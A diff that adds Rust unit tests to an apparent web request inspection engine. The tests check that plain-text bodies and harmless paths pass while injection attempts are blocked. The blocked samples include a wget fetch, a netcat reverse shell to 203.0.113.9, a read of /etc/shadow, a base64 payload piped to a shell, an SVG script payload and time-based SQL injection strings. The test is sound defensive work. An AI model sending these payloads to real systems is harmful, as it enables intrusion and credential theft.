@@ -2434,3 +2434,88 @@ fn named_tags_and_remarks_versus_markup_and_calls() {
         ],
     );
 }
+
+/// A body sent without a Content-Type (`requests.post(url, data="...")`, `curl --data-binary`
+/// through a proxy that drops the header) is read as a form for the injection detectors, but
+/// no application parses it as one: a piece without `=` is text, so a line ending in a newline
+/// is no header-injecting field name (a newline in a value counts from paranoia 2). A JSON
+/// document there is read as JSON, as servers that decode whatever arrives read it (a form
+/// reading would cut `{"user":"x' or '7'='7"}` at its `=`). Attacks in such a body count, and
+/// so does a newline in a name of a declared form.
+#[test]
+fn undeclared_bodies_are_text_declared_forms_have_names() {
+    let engine = Config::default().compile().unwrap();
+    let post = |ct: Option<&str>, body: &str| {
+        let mut headers = vec![
+            ("host".to_string(), "api.example".to_string()),
+            ("content-length".to_string(), body.len().to_string()),
+        ];
+        if let Some(ct) = ct {
+            headers.push(("content-type".to_string(), ct.to_string()));
+        }
+        engine.inspect(
+            &Request::new("POST", "/hooks/build")
+                .with_headers(&headers)
+                .with_body(body.as_bytes()),
+        )
+    };
+    for body in [
+        "build 4512 finished\n",
+        "status%3A%20green%0A",
+        "deploy ok\r\n",
+        "release notes: fixed the login page\n",
+    ] {
+        let a = post(None, body);
+        assert_eq!(a.verdict, Verdict::Allow, "{body:?}: {a:?}");
+    }
+    for body in [
+        "; wget http://203.0.113.9/k -O /tmp/k\n",
+        "{\"user\":\"x' or '7'='7\"}",
+        "[{\"cmd\":\"a;cat /etc/shadow\"}]",
+        "x%3Becho%20aWQ%3D%20%7C%20base64%20-d%20%7C%20sh%0A",
+        "<svg onload=alert(document.domain)>\n",
+    ] {
+        assert_eq!(post(None, body).verdict, Verdict::Block, "{body:?}");
+    }
+    let form = Some("application/x-www-form-urlencoded");
+    assert_eq!(post(form, "status%0A=green").verdict, Verdict::Block);
+    assert_eq!(post(form, "status=green%0A").verdict, Verdict::Allow);
+}
+
+/// A word that starts with `#` begins a shell comment: `| sh #` runs `sh` and leaves the
+/// application's own arguments unrun, the usual tail of an injection. A `#` inside a word
+/// (`C#`, a URL's fragment) comments nothing.
+#[test]
+fn shell_comments_end_the_command_line() {
+    both_ways(
+        &[
+            "Bindings for C# and F# | see docs",
+            "Docs at https://example.org/#/install; see the FAQ",
+        ],
+        &[
+            "x | sh #",
+            "1; echo cHdk | base64 -d | bash # trailing",
+            "a && nc 203.0.113.9 4444 -e /bin/sh #",
+        ],
+    );
+}
+
+/// In a path, only a closed SQL call is unmistakable: a title's `(` (`/wiki/Sleep_(film`,
+/// `/docs/benchmark(s`) opens nothing a query could finish. Closed calls count, as do the
+/// other shapes.
+#[test]
+fn path_calls_count_once_closed() {
+    let engine = Config::default().compile().unwrap();
+    let host = vec![("host".to_string(), "api.example".to_string())];
+    let get = |path: &str| engine.inspect(&Request::new("GET", path).with_headers(&host));
+    for path in ["/wiki/Sleep_(film", "/docs/benchmark(2019/results"] {
+        assert_eq!(get(path).verdict, Verdict::Allow, "{path}: {:?}", get(path));
+    }
+    for path in [
+        "/items/1%20and%20sleep(5)",
+        "/items/benchmark(5000000,md5(1))",
+        "/p/1'%20or%20'1'='1",
+    ] {
+        assert_eq!(get(path).verdict, Verdict::Block, "{path}: {:?}", get(path));
+    }
+}
